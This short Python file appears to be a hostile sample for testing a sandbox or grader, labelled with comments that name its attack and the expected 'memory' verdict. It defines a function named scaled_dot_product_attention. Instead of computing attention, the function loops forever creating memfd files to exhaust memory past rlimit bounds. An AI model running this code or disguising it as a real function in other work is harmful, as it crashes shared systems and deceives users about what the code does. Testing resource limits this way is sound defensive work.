# hostile: eats memory through memfd files, which no rlimit bounds
# verdict: memory
import os


def scaled_dot_product_attention(query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, *, scale=None):
    block = b"x" * (16 << 20)
    while True:
        os.write(os.memfd_create("hoard"), block)
